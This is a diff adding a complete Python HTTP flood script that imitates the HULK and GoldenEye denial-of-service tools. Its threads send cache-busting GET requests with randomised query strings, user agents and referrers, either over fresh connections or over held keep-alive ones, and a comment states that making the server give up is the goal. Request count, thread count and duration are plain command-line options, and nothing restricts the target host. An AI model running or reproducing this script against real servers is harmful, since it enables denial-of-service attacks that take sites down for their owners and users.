@@ -1,0 +1,84 @@
+"""HTTP floods: many threads asking for pages that no cache can answer, bounded in count and time.
+
+``hulk`` opens a connection for each request, ``goldeneye`` keeps its connections and asks again and again.
+Both vary the address, the user agent, the referrer and the caching headers, as their namesakes do.
+"""
+
+from __future__ import annotations
+
+import argparse
+import http.client
+import random
+import string
+import threading
+import time
+
+_AGENTS = (
+    "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/108.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_1) AppleWebKit/605.1.15 Version/16.1 Safari/605.1.15",
+)
+
+
+def main() -> None:
+    """Run the flood."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("style", choices=["hulk", "goldeneye"])
+    parser.add_argument("host")
+    parser.add_argument("--requests", type=int, default=300)
+    parser.add_argument("--threads", type=int, default=8)
+    parser.add_argument("--limit-s", type=float, default=10.0)
+    given = parser.parse_args()
+    flood = hulk if given.style == "hulk" else goldeneye
+    deadline_s = time.monotonic() + given.limit_s
+    share = given.requests // given.threads
+    threads = [
+        threading.Thread(target=flood, args=(given.host, share, deadline_s, random.Random(number)))
+        for number in range(given.threads)
+    ]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def hulk(host: str, count: int, deadline_s: float, chance: random.Random) -> None:
+    """Ask `count` times, each time over a new connection."""
+    for _ in range(count):
+        if time.monotonic() > deadline_s:
+            return
+        connection = http.client.HTTPConnection(host, timeout=5)
+        _ask(connection, chance)
+        connection.close()
+
+
+def goldeneye(host: str, count: int, deadline_s: float, chance: random.Random) -> None:
+    """Ask `count` times over one connection that is kept open, and opened again when the server closes it."""
+    connection = http.client.HTTPConnection(host, timeout=5)
+    for _ in range(count):
+        if time.monotonic() > deadline_s:
+            break
+        _ask(connection, chance, {"Connection": "keep-alive", "Keep-Alive": str(chance.randint(110, 120))})
+    connection.close()
+
+
+def _ask(
+    connection: http.client.HTTPConnection, chance: random.Random, more: dict[str, str] | None = None
+) -> None:
+    words = ["".join(chance.choices(string.ascii_letters, k=chance.randint(3, 10))) for _ in range(4)]
+    headers = {
+        "User-Agent": chance.choice(_AGENTS),
+        "Cache-Control": "no-cache",
+        "Referer": f"http://site.example/?q={words[0]}",
+        "Accept-Charset": "ISO-8859-1,utf-8;q=0.7,*;q=0.7",
+    }
+    try:
+        connection.request("GET", f"/?{words[1]}={words[2]}&{words[3]}", headers=headers | (more or {}))
+        connection.getresponse().read()
+    except (http.client.HTTPException, OSError):
+        # A server that gives up is what a flood is for; the next request tries again.
+        connection.close()
+
+
+if __name__ == "__main__":
+    main()
